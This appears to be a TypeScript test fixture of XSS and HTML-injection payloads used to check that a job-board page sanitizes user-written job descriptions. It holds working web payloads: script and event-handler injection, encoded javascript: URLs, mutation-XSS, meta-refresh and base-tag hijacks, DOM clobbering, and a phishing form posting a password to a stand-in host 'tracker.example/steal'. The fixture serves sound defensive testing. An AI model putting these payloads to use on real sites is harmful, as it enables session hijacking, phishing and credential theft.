/**
 * What a stranger could write into a job description. Every trick tries to set `window[hostileMarker]`, to
 * fetch from `hostileHost`, or to lead the page away; only `hostileVisibleText` may be left of it.
 */
export const hostileMarker = '__hostileDescriptionRan';
export const hostileVisibleText = 'Come and cook with us on the waterfront.';
export const hostileHost = 'tracker.example';

const run = `window['${hostileMarker}']=true`;

const tricks: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt src="https://${hostileHost}/x.js"></sCrIpT>`,
  `<img src="x:broken" onerror="${run}" alt="A plate">`,
  `<img src=x onerror=${run}//`,
  `<img src="https://${hostileHost}/pixel.gif" alt="">`,
  `<p onclick="${run}" onmouseover="${run}" onpointerenter="${run}">Hover over the daily catch.</p>`,
  `<a href="javascript:${run}">Apply here</a>`,
  `<a href=" &#106;ava&#x0A;script:${run}">Apply there</a>`,
  `<a href="data:text/html,<script>${run}</script>" target="_blank">Menu</a>`,
  `<a href="https://${hostileHost}/phish" target="_top" ping="https://${hostileHost}/ping">Benefits</a>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<svg onload="${run}"><animate onbegin="${run}" attributeName="x" dur="1s"/><a xlink:href="javascript:${run}"><text y="20">Svg</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<style>@import url(https://${hostileHost}/x.css); *{display:none!important} body{background:url(https://${hostileHost}/b.png)}</style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:url(https://${hostileHost}/cover.png)"></div>`,
  `<meta http-equiv="refresh" content="0;url=https://${hostileHost}/away">`,
  `<base href="https://${hostileHost}/">`,
  `<link rel="stylesheet" href="https://${hostileHost}/x.css">`,
  `<object data="https://${hostileHost}/x.swf"></object><embed src="https://${hostileHost}/x.swf">`,
  `<form action="https://${hostileHost}/steal"><label>Password <input name="password" autofocus onfocus="${run}"></label><button formaction="javascript:${run}">Send</button></form>`,
  `<details open ontoggle="${run}"><summary>More</summary></details>`,
  `<video autoplay onloadstart="${run}"><source onerror="${run}" src="https://${hostileHost}/v.mp4"></video>`,
  `<template><script>${run}</script></template><body onload="${run}">`,
  `<input name="attributes"><form id="x"><input id="parentNode" name="nodeName"></form>`,
  `<a href="com.hiredesk.app://oauth/callback?code=stolen&state=guess">Sign in again</a>`,
];

/** One description with every trick around its visible text. */
export const hostileDescription = `${tricks.slice(0, 9).join('\n')}\n<p>${hostileVisibleText}</p>\n${tricks.slice(9).join('\n')}`;
